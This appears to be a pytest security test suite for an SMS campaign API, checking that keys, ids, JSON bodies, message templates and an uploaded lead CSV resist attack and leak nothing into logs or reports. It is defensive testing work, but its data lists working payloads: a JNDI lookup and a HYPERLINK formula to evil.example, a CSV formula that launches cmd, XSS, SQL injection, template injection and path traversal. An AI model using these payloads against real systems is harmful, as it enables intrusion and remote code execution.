"""What an attacker tries at the API and with a lead file, in a sandbox that logs all it can."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
from collections.abc import Iterator
from typing import Any

import boto3
import pytest
from pydantic import ValidationError

from paceline.models import Campaign
from sandbox.carrier import Profile
from tests.builders.campaigns import CUSTOMER, OPERATOR, Office, an_office
from tests.builders.core import phone_number
from tests.builders.library_logs import everything_logged

NAME = '=HYPERLINK("http://evil.example")<script>alert(1)</script>\n{"level": "ERROR"}'
MESSAGE = "Hi {{first_name}}, renew."
# What leads are called: each goes to its own person as it is.
NAMES = (
    "{{7*7}}",
    "{{first_name.__class__}}",
    "{% for x in y %}",
    "${jndi:ldap://evil.example/a}",
    "=1+1",
    "@SUM(A1)",
    "<img src=x onerror=alert(1)>",
    "%s%s%n",
    "';DROP TABLE leads;--",
    "Ana\nINFO forged line",
    "A" * 1000,
    "{{phone|x}}",
)
# Rows that are refused, with what their files would do.
REFUSED = ("=1+1", "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1", "<script>", "555-SECRETNUMBER", "2" * 65_536)
FORMULA = re.compile(r"\s*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]")
SECRETS = ("sandbox-1", "pepper-of-the-sandbox", "webhook-master-of", OPERATOR.rpartition("_")[2])


def poisoned_file() -> bytes:
    text = io.StringIO(newline="")
    rows = csv.writer(text)
    rows.writerow(["phone", "first_name", "=carrier()"])
    rows.writerows([phone_number(number), name, "x"] for number, name in enumerate(NAMES, start=1))
    rows.writerows([refused, "Bo", "x"] for refused in REFUSED)
    return text.getvalue().encode()


@pytest.fixture(scope="module")
def library_lines() -> list[str]:
    return []


@pytest.fixture(scope="module")
def office(library_lines: list[str]) -> Iterator[Office]:
    """A customer whose campaign and lead file are meant to do harm, on a rough day, at log level DEBUG."""
    rough = Profile(throttled=0.1, failing=0.1, silent=0.1, refused=(("21614", 0.1),))
    with everything_logged(library_lines), an_office(profile=rough, credits=100) as office:
        office.start(poisoned_file(), name=NAME, message=MESSAGE)
        office.report()
        office.call("GET", "/v1/campaigns/renewals/messages")
        yield office


def ask(office: Office, method: str, path: str, content: bytes = b"", key: str = CUSTOMER) -> Any:
    headers = {"x-api-key": key, "content-type": "application/json"}
    url = f"{office.sandbox.outputs['ApiUrl']}{path}"
    return office.sandbox.do(office.sandbox.network.request, method, url, headers, content)


# -- keys --------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "key",
    [
        "",
        "pk_operator_",
        f"{OPERATOR} ",
        f" {OPERATOR}",
        OPERATOR.upper(),
        OPERATOR[:-1],
        f"{OPERATOR}x",
        f"{OPERATOR}, {OPERATOR}",
        f"{CUSTOMER}, {OPERATOR}",
        OPERATOR.replace("operator_", "customer_", 1),
        "pk_operator_" + "A" * 30,
        "pk_*_" + "A" * 30,
        "pk_operator#_" + "A" * 30,
        "pk_\u043eperator_key-of-the-tests-operator",  # a Cyrillic letter
        "x" * 8000,
        "\x00",
    ],
)
def test_no_other_spelling_of_a_key_opens_anything(office: Office, key: str) -> None:
    answer = ask(office, "GET", "/v1/admin/accounts", key=key)

    assert (answer.status, json.loads(answer.body)) == (403, {"message": "Forbidden"})


# -- ids ---------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "..",
        "%2e%2e",
        "..%2f..%2facme",
        "%252e%252e",
        "a%2fb",
        "a%23b",
        "renewals%23PLAN",
        "%00",
        "renewals%00",
        "renewals%0a",
        "renewals%20",
        "caf%C3%A9",
        "%EF%BD%92enewals",  # full width r
        "r\u0435newals".encode().decode("latin-1"),
        "RENEWALS",
        "-renewals",
        "a" * 500,
        "*",
    ],
)
@pytest.mark.parametrize("where", ["/v1/campaigns/{}", "/v1/routes/{}", "/v1/admin/accounts/{}"])
def test_a_name_with_more_in_it_than_names_have_reaches_nothing(office: Office, where: str, name: str) -> None:
    answer = ask(office, "GET", where.format(name), key=OPERATOR)

    assert answer.status in (404, 422)
    assert answer.headers["content-type"] == "application/problem+json"
    assert b"acme" not in answer.body.replace(name.encode("utf-8", "replace"), b"")


@pytest.mark.parametrize(
    ("field", "value"),
    [
        *[
            ("file_name", name)
            for name in ("../../x.csv", "a/b.csv", "a\\b.csv", "", ".", "..", "a b", "\u00e9.csv", "a\n")
        ],
        *[("campaign_id", name) for name in ("../x", "a#b", "a/b", "abc\n", "ABC", "a.b", "ａbc", "abc\u0000")],
        *[("route", name) for name in ("../x", "a#b", "shared\n", "SHARED", "")],
        *[("account_id", name) for name in ("a#b", "../x", "acme\n", "ACME")],
    ],
)
def test_no_name_in_a_body_becomes_a_path_or_two_keys(office: Office, field: str, value: str) -> None:
    body = json.dumps({"name": "N", "message": "Hi", field: value}).encode()

    answer = ask(office, "POST", "/v1/campaigns", body, OPERATOR)

    assert answer.status == 422
    assert json.loads(answer.body)["field"] == f"body.{field}"


def test_an_upload_is_of_one_key_and_of_bounded_size_for_an_hour(office: Office) -> None:
    made = office.post("/v1/campaigns", {"campaign_id": "uploads", "name": "N", "message": "Hi"})
    form = office.post("/v1/campaigns/uploads/upload")
    policy = json.loads(base64.b64decode(form["fields"]["policy"]))

    key = f"uploads/acme/{made['campaign_id']}/leads.csv"
    assert form["fields"]["key"] == key
    assert {"key": key} in policy["conditions"]
    assert ["content-length-range", 1, 200 * 1024 * 1024] in policy["conditions"]
    assert not [one for one in policy["conditions"] if isinstance(one, list) and one[0] == "starts-with"]


# -- JSON --------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(b'{"name":' * 50_000, id="objects in objects"),
        pytest.param(b"[" * 500_000, id="lists in lists"),
        pytest.param(b'{"name": "N", "message": "Hi", "weight": ' + b"9" * 5000 + b"}", id="a number without end"),
        pytest.param(b'{"name": "N", "message": "Hi", "weight": 1e400}', id="infinite"),
        pytest.param(b'{"name": "N", "message": "Hi", "weight": NaN}', id="not a number"),
        pytest.param(b'{"name": "N", "name": "M", "message": "Hi"}', id="a name twice"),
        pytest.param(b'{"name": "N", "message": "Hi", "__class__": {}}', id="a name of Python's"),
        pytest.param(b'{"name": "\\ud800", "message": "Hi"}', id="half a character"),
        pytest.param(b'{"name": "N\\u0000", "message": "Hi"}', id="a NUL"),
        pytest.param(b'{"name": "N", "message": "' + b"a" * 65_536 + b'"}', id="a field of 64 KB"),
        pytest.param('{"name": "N\u009b31m", "message": "Hi"}'.encode(), id="what steers a terminal"),
        pytest.param(b"\xff\xfe{}", id="UTF-16"),
        pytest.param(b"name=N&message=Hi", id="a form"),
    ],
)
def test_what_is_no_plain_json_is_refused_with_a_sentence(office: Office, body: bytes) -> None:
    answer = ask(office, "POST", "/v1/campaigns", body)

    assert answer.status == 422
    assert len(json.loads(answer.body)["detail"]) < 500


@pytest.mark.parametrize(
    "message", ["Hi {{7*7}}", "Hi {{first_name.__class__}}", "{% raw %}", "Hi {{{first_name}}}", "${first_name}", "{0}"]
)
def test_a_message_is_no_program(office: Office, message: str) -> None:
    body = json.dumps({"name": "N", "message": message}).encode()

    answer = ask(office, "POST", "/v1/campaigns", body)

    if answer.status == 200:  # a field with an odd name: the file has no such column, and nobody is sent to
        campaign = json.loads(answer.body)["campaign_id"]
        key = f"uploads/acme/{campaign}/leads.csv"
        boto3.client("s3").put_object(Bucket=office.sandbox.outputs["BucketName"], Key=key, Body=b"phone\n2025550101\n")
        answer = ask(office, "POST", f"/v1/campaigns/{campaign}/plan")
    assert answer.status == 422
    assert b"49" not in answer.body


# -- the lead file -----------------------------------------------------------------------------------------------------


def test_what_leads_are_called_is_sent_as_it_is_or_not_at_all(office: Office) -> None:
    texts = {entry.to: entry.body for entry in office.sandbox.carrier.book}

    assert len(texts) >= len(NAMES) // 2
    for number, name in enumerate(NAMES, start=1):
        assert texts.get(phone_number(number), "Hi {}, renew.".format(" ".join(name.split()))) in (
            f"Hi {name}, renew.",
            f"Hi {' '.join(name.split())}, renew.",
        )


def files_of(office: Office, ending: str) -> dict[str, bytes]:
    s3, bucket = boto3.client("s3"), office.sandbox.outputs["BucketName"]
    keys = [one["Key"] for one in s3.list_objects_v2(Bucket=bucket, Prefix="campaigns/")["Contents"]]
    return {key: s3.get_object(Bucket=bucket, Key=key)["Body"].read() for key in keys if key.endswith(ending)}


def test_no_file_of_ours_has_a_cell_that_a_spreadsheet_would_run(office: Office) -> None:
    files = files_of(office, ".csv")

    assert {key.rpartition("/")[2] for key in files} >= {"outcomes.csv", "timeline.csv", "rejects.csv"}
    for key, content in files.items():
        cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]
        assert [cell for cell in cells if FORMULA.match(cell)] == [], key


def test_the_report_runs_nothing_and_loads_nothing(office: Office) -> None:
    [page] = files_of(office, "report.html").values()

    assert b"<script" not in page
    assert b"<img" not in page
    assert b"default-src 'none'" in page
    assert b"&lt;script&gt;alert(1)" in page


# -- what is left behind -----------------------------------------------------------------------------------------------


def test_logs_and_histories_have_nothing_of_people_nor_of_secrets(office: Office, library_lines: list[str]) -> None:
    histories = [json.dumps([e.input, e.output, e.cause, history], default=str) for e, history in office.histories()]
    logs = [*office.sandbox.logs.lines, *office.sandbox.logs.metrics, *library_lines]
    people = [phone_number(number).removeprefix("+1") for number in range(1, len(NAMES) + 1)]
    poison = [json.dumps(name)[1:-1] for name in NAMES if len(name) > 5] + ["SECRETNUMBER", "renew."]

    assert len(logs) > 10
    for told in [*people, *poison, *SECRETS]:
        assert [text[:300] for text in [*histories, *logs] if told in text] == []


def test_no_line_of_a_log_is_a_customers(office: Office) -> None:
    lines = [json.loads(line) for line in office.sandbox.logs.lines]

    assert {line["service"] for line in lines} == {"paceline"}


@pytest.mark.parametrize("given", [{"campaign_id": "SECRETNUMBER"}, {"name": ["SECRETNUMBER"]}, "SECRETNUMBER"])
def test_a_model_that_refuses_says_nothing_of_what_it_was_given(given: object) -> None:
    with pytest.raises(ValidationError) as refused:
        Campaign.model_validate(given)

    assert "SECRETNUMBER" not in str(refused.value)


@pytest.mark.parametrize("path", ["/v1/campaigns/renewals", "/v1/campaigns/none-such/report", "/v1/nothing/here"])
def test_an_error_echoes_neither_key_nor_secret(office: Office, path: str) -> None:
    answer = ask(office, "DELETE", f"{path}?key={CUSTOMER}")

    assert answer.status >= 400
    assert CUSTOMER.encode() not in answer.body
    assert not [secret for secret in SECRETS if secret.encode() in answer.body]
